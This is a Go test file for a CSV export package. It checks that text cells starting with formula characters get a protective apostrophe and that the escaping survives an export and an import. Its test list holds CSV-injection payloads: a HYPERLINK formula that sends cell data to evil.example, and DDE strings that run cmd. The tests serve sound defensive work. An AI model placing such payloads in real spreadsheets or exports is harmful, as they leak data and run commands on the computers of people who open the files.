package data

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// The attack strings of issue 12 and OWASP's CSV injection page.
var formulaAttacks = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"点击查看")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`=cmd|' /C notepad'!'A1'`,
}

func TestFormulaSafe(t *testing.T) {
	for _, s := range formulaAttacks {
		got := FormulaSafe(s)
		if got != "'"+s {
			t.Errorf("FormulaSafe(%q) = %q, want a leading '", s, got)
		}
		if back := csvUnescapeText(got); back != s {
			t.Errorf("import of %q = %q, want %q back", got, back, s)
		}
	}
	for _, s := range []string{"", "肇庆市高要区某公司", "2025-06-02", "0.85", "a=b", "'quoted", "'"} {
		if got := FormulaSafe(s); got != s {
			t.Errorf("FormulaSafe(%q) = %q, want it unchanged", s, got)
		}
	}
	// Text that already starts with ' and a formula character keeps its
	// ' through an export and an import.
	for _, s := range []string{"'=1+1", "'-5"} {
		got := FormulaSafe(s)
		if got != "'"+s || csvUnescapeText(got) != s {
			t.Errorf("FormulaSafe(%q) = %q, import gives %q", s, got, csvUnescapeText(got))
		}
	}
	// Text that looks like a negative number is text: prefixed too.
	if got := FormulaSafe("-12.5"); got != "'-12.5" {
		t.Errorf("FormulaSafe(-12.5) = %q", got)
	}
}

func TestCSVWriterNeutralisesText(t *testing.T) {
	var buf bytes.Buffer
	cw := NewCSVWriter(&buf)
	cw.WriteText(formulaAttacks)
	cw.WriteCells([]any{formulaAttacks[0], -12.5, 3, int64(-7), nil, "-12.5", true})
	cw.WriteText(nil)
	cw.Flush()
	if err := cw.Error(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range formulaAttacks {
		if rows[0][i] != "'"+s {
			t.Errorf("text cell %d = %q", i, rows[0][i])
		}
	}
	want := []string{"'" + formulaAttacks[0], "-12.5", "3", "-7", "", "'-12.5", "true"}
	for i, w := range want {
		if rows[1][i] != w {
			t.Errorf("cell %d = %q, want %q", i, rows[1][i], w)
		}
	}
}
